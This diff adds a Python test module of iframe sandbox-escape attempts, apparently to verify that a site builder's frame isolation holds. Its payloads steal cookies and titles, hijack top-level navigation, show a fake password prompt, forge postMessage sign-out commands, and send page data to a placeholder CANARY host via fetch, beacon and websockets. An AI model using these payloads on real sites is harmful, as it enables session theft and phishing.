@@ -1,0 +1,111 @@
+"""Ways in which a page may try to get out of the frame it is shown in.
+
+Each is a page's body. `CANARY/name` is an address where nothing may arrive; `escaped(what)` is called by a page that
+has got hold of something it must not have.
+"""
+
+# ruff: noqa: E501 (one attempt a line)
+
+_SCRIPTS = {
+    "parent document": "escaped(parent.document.title)",
+    "top document": "escaped(top.document.cookie)",
+    "frame element": "if (frameElement) escaped('frameElement')",
+    "sibling frames": "for (let i = 0; i < top.length; i++) try { if (top[i] !== self) escaped(top[i].document.title) } catch {}",
+    "cookies": "document.cookie = 'planted=1'; if (document.cookie) escaped(document.cookie)",
+    "local storage": "localStorage.setItem('planted', 1); escaped('localStorage')",
+    "session storage": "sessionStorage.setItem('planted', 1); escaped('sessionStorage')",
+    "indexed database": "indexedDB.open('planted').onsuccess = () => escaped('indexedDB')",
+    "cache storage": "caches.open('planted').then(() => escaped('caches'))",
+    "cookie store": "cookieStore.getAll().then((all) => escaped(all))",
+    "locks": "navigator.locks.request('planted', () => escaped('locks'))",
+    "top navigation": "top.location = 'CANARY/top-navigation'",
+    "parent navigation": "parent.location.href = 'CANARY/parent-navigation'",
+    "own navigation": "location = 'CANARY/own-navigation?' + document.title",
+    "javascript navigation": "top.location = 'javascript:alert(1)'",
+    "history": "top.history.back(); history.pushState({}, '', '/websites'); escaped('pushState')",
+    "window name": "window.name = 'x'; top.name = 'planted'; escaped('name')",
+    "popup": "if (window.open('CANARY/popup')) escaped('popup')",
+    "fetch": "fetch('CANARY/fetch', { mode: 'no-cors', method: 'POST', body: document.title })",
+    "fetch our own": "fetch('/api/websites', { credentials: 'include' }).then((answer) => escaped(answer.status))",
+    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'CANARY/xhr'); x.send()",
+    "beacon": "navigator.sendBeacon('CANARY/beacon', document.title)",
+    "event source": "new EventSource('CANARY/event-source')",
+    "web socket": "new WebSocket('CANARY/web-socket'.replace('http', 'ws'))",
+    "image object": "new Image().src = 'CANARY/image-object'",
+    "font": "new FontFace('x', 'url(CANARY/font)').load()",
+    "audio": "new Audio('CANARY/audio').play()",
+    "dynamic import": "import('CANARY/dynamic-import')",
+    "module": "document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: 'CANARY/module' }))",
+    "service worker": "navigator.serviceWorker.register('/static/dist/x.js').then(() => escaped('service worker'))",
+    "worker from blob": "const u = URL.createObjectURL(new Blob(['fetch(\"CANARY/worker\")'])); new Worker(u)",
+    "shared worker": "const s = URL.createObjectURL(new Blob(['fetch(\"CANARY/shared\")'])); new SharedWorker(s)",
+    "worklet": "CSS.paintWorklet.addModule('CANARY/worklet')",
+    "web rtc": "new RTCPeerConnection(); escaped('RTCPeerConnection')",
+    "web rtc of a frame": "const f = document.body.appendChild(document.createElement('iframe'));"
+    "new f.contentWindow.RTCPeerConnection(); escaped('RTCPeerConnection')",
+    "web transport": "new WebTransport('https://127.0.0.1:PORT/web-transport')",
+    "nested frame": "document.body.innerHTML = '<iframe src=CANARY/nested-frame></iframe>'",
+    "frame in a frame": "document.body.innerHTML = '<iframe srcdoc=\"<script>fetch(\\'CANARY/srcdoc\\')<\\/script>\"></iframe>'",
+    "blob frame": "document.body.innerHTML = `<iframe src=${URL.createObjectURL(new Blob(['<img src=CANARY/blob>'],"
+    "{ type: 'text/html' }))}></iframe>`",
+    "download": "Object.assign(document.createElement('a'), { href: 'CANARY/download', download: 'x' }).click()",
+    "blob download": "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x' }).click()",
+    "link to the top": "Object.assign(document.createElement('a'), { href: 'CANARY/link', target: '_top' }).click()",
+    "link to a tab": "Object.assign(document.createElement('a'), { href: 'CANARY/tab', target: '_blank' }).click()",
+    "submitted form": "document.body.innerHTML = '<form method=post action=CANARY/form><input name=x></form>'; document.forms[0].submit()",
+    "form to the top": "document.body.innerHTML = '<form target=_top action=CANARY/form-top></form>'; document.forms[0].submit()",
+    "report": 'document.body.innerHTML = \'<meta http-equiv=Content-Security-Policy content="img-src none; report-uri CANARY/report">'
+    "<img src=x>'",
+    "full screen": "document.body.requestFullscreen().then(() => escaped('full screen'))",
+    "clipboard": "navigator.clipboard.readText().then((text) => escaped(text))",
+    "camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => escaped('camera'))",
+    "place": "navigator.geolocation.getCurrentPosition(() => escaped('place'))",
+    "dialog": "alert('CANARY'); if (prompt('Your password?')) escaped('prompt')",
+    "broadcast": "new BroadcastChannel('sitethread').postMessage({ type: 'sign-out' })",
+    "commands": "for (const type of ['ready', 'sign-out', 'navigate']) parent.postMessage({ type, page: '<img src=CANARY/commands>' }, '*');"
+    "parent.postMessage('ready', '*')",
+    "style sheet": "document.body.innerHTML = '<link rel=stylesheet href=CANARY/style-sheet>'",
+    "prefetch rules": "document.body.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text:"
+    "JSON.stringify({ prerender: [{ source: 'list', urls: ['CANARY/prerender'] }], prefetch: [{ source: 'list', urls: ['CANARY/rules'] }] }) }))",
+}
+_MARKUP = {
+    "image": "<img src=CANARY/image><picture><source srcset=CANARY/picture><img></picture>",
+    "lazy image": "<img loading=lazy srcset='CANARY/srcset 2x'><input type=image src=CANARY/input>",
+    "css address": "<style>body { background: url(CANARY/css); list-style: url(CANARY/list) } @import 'CANARY/import';"
+    "@font-face { font-family: f; src: url(CANARY/face) } p { font-family: f }</style><p>x",
+    "style attribute": "<p style='background: image-set(\"CANARY/image-set\" 1x)'>x<p style='cursor: url(CANARY/cursor), auto'>x",
+    "script": "<script src=CANARY/script></script>",
+    "links": "".join(
+        f"<link rel={rel} href=CANARY/{rel}{rest}>"
+        for rel, rest in (
+            ("prefetch", ""), ("preload", " as=image"), ("modulepreload", ""), ("prerender", ""), ("manifest", ""), ("icon", ""),
+            ("preconnect", " crossorigin"), ("dns-prefetch", ""), ("next", ""),
+        )
+    ),
+    "preconnect": "<link rel=preconnect href=CANARY>",
+    "refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
+    "base": "<base href=CANARY/base/ target=_top><img src=x>",
+    "object": "<object data=CANARY/object></object><embed src=CANARY/embed><applet archive=CANARY/applet></applet>",
+    "video": "<video src=CANARY/video poster=CANARY/poster autoplay></video><track src=CANARY/track>",
+    "vector image": "<svg><use href=CANARY/use#x /><image href=CANARY/svg-image /><filter id=f><feImage href=CANARY/filter /></filter>"
+    "<rect filter=url(#f) width=9 height=9 /></svg><svg><script href=CANARY/svg-script></script></svg>",
+    "foreign markup": "<svg><foreignObject><img src=CANARY/foreign></foreignObject></svg><math><mi href=CANARY/math>x</mi></math>",
+    "old markup": "<body background=CANARY/background><table background=CANARY/table><tr><td background=CANARY/cell>x</table>",
+    "ping": "<a href=#x ping=CANARY/ping id=a>x</a><script>a.click()</script>",
+}  # fmt: skip
+ESCAPES = {name: f"<script>{script}</script>" for name, script in _SCRIPTS.items()} | _MARKUP
+
+_PAGE = """<!doctype html><html lang="en"><title>Secret title</title><body><script>
+const escaped = (what) => top.postMessage({{ test: {name!r}, escaped: String(what) }}, '*');
+addEventListener('error', (event) => event.preventDefault());
+addEventListener('unhandledrejection', (event) => event.preventDefault());
+top.postMessage({{ test: {name!r}, ran: true }}, '*');
+</script>{attack}</body></html>"""
+
+
+def pages(canary_url: str, port: int) -> dict[str, str]:
+    """Return a page for each way, by its name."""
+    made = {name: _PAGE.format(name=name, attack=attack) for name, attack in ESCAPES.items()}
+    return {
+        name: page.replace("CANARY", canary_url).replace("PORT", str(port)) for name, page in made.items()
+    }
